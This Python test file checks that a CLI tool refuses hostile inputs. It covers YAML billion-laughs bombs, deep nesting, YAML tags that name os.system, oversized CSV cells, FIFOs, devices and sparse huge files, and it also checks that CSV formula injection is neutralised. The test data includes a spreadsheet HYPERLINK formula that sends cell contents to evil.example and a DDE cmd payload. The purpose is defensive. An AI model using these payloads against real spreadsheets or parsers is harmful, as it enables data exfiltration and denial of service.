"""A hostile file: YAML bombs and deep nesting, CSV formula injection, oversized CSV cells,
and attachments that are not regular files — each through the CLI (or the core where only
the core reads it), with the exact message, its position and exit code, never a traceback.

The time bounds are a safety net only (each case ends in milliseconds); the assertions
that matter are the messages.
"""

from __future__ import annotations

import csv
import io
import json
import os
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from imi_cli.errors import ExitCode
from tests.cli.conftest import cli, event_count, network, open_raw, template, unlocked  # noqa: F401

SAFETY = 10.0  # seconds; today's code ran 33.7 s and 3 GB on the authority bomb

# The classic "billion laughs": nine levels of nine aliases each, a billion "lol"s as a tree.
LAUGHS = '\n'.join(['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'] + [
    f"{name}: &{name} [{','.join(['*' + prev] * 9)}]" for prev, name in zip("abcdefgh", "bcdefghi", strict=True)])
# the first alias over the 10,000-node budget: the first *d of line 5 (e: &e [*d, ...])
BOMB_AT = "5:8: refused: aliases expand to more than 10,000 nodes (at *d)"
FLATTEN = "  hint: write the data out in full, without anchors and aliases\n"
SHALLOW = "  hint: no imi file needs that much nesting; is this the file you meant?\n"

AUTHORITY = {"id": "MT-MCCAA", "country": "MT", "names": {"en": "Malta Authority"},
             "languages": ["mt", "en"], "areas": {"services": ["consumer protection"]},
             "email": "info@example.mt"}


@contextmanager
def timed() -> Iterator[None]:
    started = time.monotonic()
    yield
    assert time.monotonic() - started < SAFETY


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


# -- YAML bombs and deep nesting ------------------------------------------------------------------

def test_a_billion_laughs_in_an_authority_import_is_refused_at_its_alias(unlocked, imi, tmp_path, event_count):
    bomb = write(tmp_path / "bomb.yaml", f"{LAUGHS}\nauthorities:\n  - requires_approval: *i\n" + "".join(
        f"    {key}: {json.dumps(value)}\n" for key, value in AUTHORITY.items()))
    assert len(bomb.read_bytes()) < 1024
    events = event_count(unlocked)
    with timed():
        result = imi("authority", "import", bomb)
    assert (result.code, result.err) == (ExitCode.INVALID_INPUT, f"imi: error: {bomb}:{BOMB_AT}\n{FLATTEN}")
    assert event_count(unlocked) == events


def test_a_billion_laughs_in_a_catalog_is_finding_y004(imi, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "bomb.yaml", f"{LAUGHS}\nid: bomb\ntitle: {{en: *i}}\n")
    with timed():
        result = imi("questionnaire", "validate", "--format", "text", "bomb.yaml")
    assert result.code == ExitCode.ERROR
    assert result.out == f"bomb.yaml:{BOMB_AT.replace(': refused', ': error: [Y004] refused')}\n"


def test_an_alias_inside_its_own_anchor_is_refused(imi, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "loop.yaml", "id: loop\ntitle: &t {en: [*t]}\n")
    with timed():
        result = imi("questionnaire", "validate", "--format", "text", "loop.yaml")
    assert result.code == ExitCode.ERROR
    assert result.out == "loop.yaml:2:17: error: [Y004] refused: the alias *t refers to a node that contains it\n"


@pytest.mark.parametrize("value, tag", [("!foo bar", "!foo"), ("!!int abc", "!!int"), ('!!binary "@@"', "!!binary"),
                                        ("!!python/name:os.system x", "!!python/name:os.system")])
def test_a_tag_in_a_catalog_is_refused_not_a_traceback(imi, tmp_path, monkeypatch, value, tag):
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "tagged.yaml", f"id: tagged\ntitle: {{en: {value}}}\n")
    result = imi("questionnaire", "validate", "--format", "text", "tagged.yaml")
    assert result.code == ExitCode.ERROR
    assert result.out == f"tagged.yaml:2:13: error: [Y004] refused: the tag {tag}: imi files use no tags but !!str\n"


def test_deep_block_mapping_in_a_catalog_is_refused_at_level_65(imi, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # 900 levels: under libyaml's own limit, over Python's recursion
    write(tmp_path / "deep.yaml", "".join(f"{' ' * level}k{level}:\n" for level in range(900)) + " " * 900 + "x\n")
    with timed():
        result = imi("questionnaire", "validate", "--format", "text", "deep.yaml")
    assert result.code == ExitCode.ERROR
    assert result.out == "deep.yaml:65:65: error: [Y004] refused: nested deeper than 64 levels\n"


def test_deep_block_mapping_in_an_authority_import_is_refused_at_level_65(unlocked, imi, tmp_path):
    deep = write(tmp_path / "deep.yaml", "authorities:\n- " + "".join(
        f"{' ' * (level + 2)}k{level}:\n" for level in range(3000)).lstrip() + "    x\n")
    with timed():
        result = imi("authority", "import", deep)
    assert (result.code, result.err) == (
        ExitCode.INVALID_INPUT, f"imi: error: {deep}:64:65: refused: nested deeper than 64 levels\n{SHALLOW}")


def test_deep_flow_sequence_in_an_authority_import_is_refused(unlocked, imi, tmp_path):
    deep = write(tmp_path / "deep.yaml", "authorities: [" + "[" * 3000 + "]" * 3000 + "]\n")
    with timed():
        result = imi("authority", "import", deep)
    assert result.code == ExitCode.INVALID_INPUT
    # libyaml scans ahead and stops at its own limit of 1000 levels first: the position is its
    first, hint = result.err.splitlines()
    assert first.startswith(f"imi: error: {deep}:1:") and first.endswith(": refused: nested deeper than 64 levels")
    assert hint + "\n" == SHALLOW


def test_deep_json_in_an_authority_import_is_refused_by_position(unlocked, imi, tmp_path):
    deep = write(tmp_path / "deep.json", '{"authorities":\n  [' + "[" * 3000 + "]" * 3000 + "]}\n")
    with timed():
        result = imi("authority", "import", deep)
    assert (result.code, result.err) == (
        ExitCode.INVALID_INPUT, f"imi: error: {deep}:2:66: refused: nested deeper than 64 levels\n{SHALLOW}")


def test_brackets_inside_json_strings_are_not_nesting(unlocked, imi, tmp_path):
    record = {**AUTHORITY, "address": "[" * 100 + '"{' * 100}
    ok = write(tmp_path / "ok.json", json.dumps([record]))
    result = imi("authority", "import", ok)
    assert result.code == 0, result.err


def test_a_billion_laughs_in_an_answers_file_is_refused(tmp_path):
    from imi_cli.bulk.yaml_loader import YamlError
    from imi_cli.exchanges.requests.answer_input import _read

    bomb = write(tmp_path / "answers.yaml", f"{LAUGHS}\nremarks: *i\n")
    with timed(), pytest.raises(YamlError, match="aliases expand") as raised:
        _read(bomb)
    assert str(raised.value) == f"{bomb}:{BOMB_AT}"


# -- CSV: formula injection, oversized cells ------------------------------------------------------

FORMULAS = {"FR-HYPER": '=HYPERLINK("https://evil.example/?"&A1,"open")', "FR-CMD": "=cmd|' /C calc'!A0",
            "FR-AT": "@SUM(1+1)", "FR-MINUS": "-2+3", "FR-QUOTE": "'=already quoted",
            "FR-DUTCH": "'s-Hertogenbosch"}


@pytest.fixture
def formulas(unlocked, imi, tmp_path) -> Path:
    records = [{**AUTHORITY, "id": ident, "country": "FR", "languages": ["fr"], "names": {"fr": name},
                "phone": "+33 1 23 45 67 89"} for ident, name in FORMULAS.items()]
    result = imi("authority", "import", write(tmp_path / "formulas.json", json.dumps(records)))
    assert result.code == 0, result.err
    return unlocked


def test_csv_export_neutralises_formulas_and_import_restores_them(formulas, imi, tmp_path, monkeypatch):
    exported = imi("authority", "export", "--format", "csv")
    assert exported.code == 0, exported.err
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.out))}
    assert {ident: rows[ident]["name:fr"] for ident in FORMULAS} == {
        "FR-HYPER": "'" + FORMULAS["FR-HYPER"], "FR-CMD": "'" + FORMULAS["FR-CMD"], "FR-AT": "'@SUM(1+1)",
        "FR-MINUS": "'-2+3", "FR-QUOTE": "''=already quoted", "FR-DUTCH": "'s-Hertogenbosch"}
    assert {row["phone"] for row in rows.values()} == {"'+33 1 23 45 67 89"}
    cells = [cell for row in csv.reader(io.StringIO(exported.out)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # read back into another store: every name and phone exactly as it was
    before = json.loads(imi("authority", "export").out)
    write(tmp_path / "again.csv", exported.out)
    monkeypatch.setenv("IMI_STORE", str(tmp_path / "other.db"))
    monkeypatch.setenv("IMI_PASSPHRASE", "another long passphrase")
    assert imi("init").code == 0
    assert imi("authority", "import", tmp_path / "again.csv").code == 0
    assert json.loads(imi("authority", "export").out) == before


def test_tab_separated_output_in_a_pipe_neutralises_formulas(formulas, imi):
    result = imi("authority", "search", "--country", "FR", "--limit", "100")
    assert result.code == 0, result.err
    names = {line.split("\t")[0]: line.split("\t")[2] for line in result.out.splitlines()[1:]}  # after the header
    assert names == {"FR-HYPER": "'" + FORMULAS["FR-HYPER"], "FR-CMD": "'" + FORMULAS["FR-CMD"],
                     "FR-AT": "'@SUM(1+1)", "FR-MINUS": "'-2+3", "FR-QUOTE": "''=already quoted",
                     "FR-DUTCH": "'s-Hertogenbosch"}


def test_a_csv_cell_over_the_field_limit_is_a_problem_at_its_line(unlocked, imi, tmp_path, event_count):
    header = "id,country,name,languages,areas,email\n"
    good = "MT-A,MT,Malta A,mt,services,a@example.mt\n"
    big = write(tmp_path / "big.csv", header + good + f'MT-B,MT,"{"x" * 200_000}",mt,services,b@example.mt\n')
    events = event_count(unlocked)
    with timed():
        result = imi("authority", "import", big)
    assert (result.code, result.err) == (
        ExitCode.INVALID_INPUT, f"imi: error: {big}:3: a cell of this row is longer than 131072 characters\n"
                                "  hint: is a quote left open on this line?\n")
    assert event_count(unlocked) == events


# -- files that are not regular files -------------------------------------------------------------

@contextmanager
def fifo(path: Path) -> Iterator[Path]:
    """A FIFO; if today's code blocks reading it, a writer comes after SAFETY seconds and
    closes at once, so the read ends (with nothing) instead of hanging the suite."""
    os.mkfifo(path)
    done = threading.Event()

    def release() -> None:
        if not done.wait(SAFETY):
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            except OSError:  # nobody reading: nothing to release
                pass

    thread = threading.Thread(target=release, daemon=True)
    thread.start()
    try:
        yield path
    finally:
        done.set()
        thread.join()


def test_a_fifo_or_a_device_is_not_imported(unlocked, imi, tmp_path):
    with fifo(tmp_path / "pipe.csv") as pipe, timed():
        result = imi("authority", "import", pipe)
    assert (result.code, result.err) == (
        ExitCode.INVALID_INPUT, f"imi: error: {pipe} is a FIFO (named pipe); only a regular file can be read\n"
                                "  hint: copy the data into a file first\n")
    with timed():
        result = imi("authority", "import", "/dev/zero", "--format", "csv")
    assert (result.code, result.err) == (
        ExitCode.INVALID_INPUT, "imi: error: /dev/zero is a character device; only a regular file can be read\n"
                                "  hint: copy the data into a file first\n")


NEW = ("request", "new", "--area", "services", "--to", "HU-AUTH", "--questionnaire", "services-verify-provider",
       "--questions", "legally_established", "--deadline", "2099-01-31", "--subject", "Attachment check")


def test_a_subject_from_a_request_is_no_formula_in_a_pipe(network, cli):
    subject = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    rid = cli("ie.handler", *NEW[:-1], subject).out.strip()
    listed = cli("ie.handler", "request", "list").out.splitlines()
    row = next(line.split("\t") for line in listed if line.startswith(rid))
    assert row[5] == "'" + subject


@pytest.fixture
def huge(tmp_path) -> Path:
    """A sparse 64 GiB file: today's code tried to read it whole before looking at its size."""
    path = tmp_path / "huge.bin"
    with open(path, "wb") as handle:
        handle.truncate(64 * 1024**3)
    return path


def test_attachments_are_regular_files_checked_before_reading(network, cli, tmp_path, huge):
    cases = [
        ("/dev/zero", ExitCode.INVALID_INPUT, "/dev/zero is a character device; only a regular file can be "
                                              "attached\n  hint: copy the data into a file first\n"),
        (str(tmp_path), ExitCode.USAGE, f"{tmp_path} is a folder, not a file\n"),
        (str(huge), ExitCode.INVALID_INPUT,
         f"{huge}: {64 * 1024**3} bytes is over the attachment limit of {4 * 1024 * 1024}\n"),
    ]
    for path, code, message in cases:
        with timed():
            result = cli("ie.handler", *NEW, "--attach", path)
        assert (result.code, result.err) == (code, f"imi: error: {message}"), path
    with fifo(tmp_path / "pipe.pdf") as pipe, timed():
        result = cli("ie.handler", *NEW, "--attach", pipe)
    assert (result.code, result.err) == (
        ExitCode.INVALID_INPUT, f"imi: error: {pipe} is a FIFO (named pipe); only a regular file can be attached\n"
                                "  hint: copy the data into a file first\n")


# -- the loader's limits, in the core -------------------------------------------------------------

def test_an_alias_may_not_nest_past_the_depth_limit():
    from imi_cli.bulk.yaml_loader import YamlError, load

    # 40 levels anchored, aliased 40 levels down: each fine alone, 80 deep once expanded
    forty = "[" * 40 + "]" * 40
    with pytest.raises(YamlError) as raised:
        load(f"a: &deep {forty}\nb: {'[' * 40}*deep{']' * 40}\n", "x.yaml")
    assert str(raised.value) == "x.yaml:2:44: refused: the alias *deep nests deeper than 64 levels"
    assert load(f"a: &deep {forty}\nb: {'[' * 20}*deep{']' * 20}\n", "x.yaml")["b"][0][0]


def test_a_yaml_text_over_the_size_limit_is_refused_before_parsing():
    from imi_cli.bulk.yaml_loader import Limits, YamlError, load

    with pytest.raises(YamlError) as raised:
        load("a: " + "x" * 2000, "big.yaml", limits=Limits(max_chars=1000))
    assert str(raised.value) == "big.yaml:1:1: the file has 2,003 characters, over the limit of 1,000"
    assert raised.value.over_limit


def test_anchors_and_aliases_within_the_budget_still_load():
    from imi_cli.bulk.yaml_loader import load

    text = "base: &b {en: Yes, fr: Oui}\n" + "".join(f"q{i}: *b\n" for i in range(100))
    data = load(text, "ok.yaml")
    assert data["q99"] == {"en": "Yes", "fr": "Oui"} and len(data) == 101
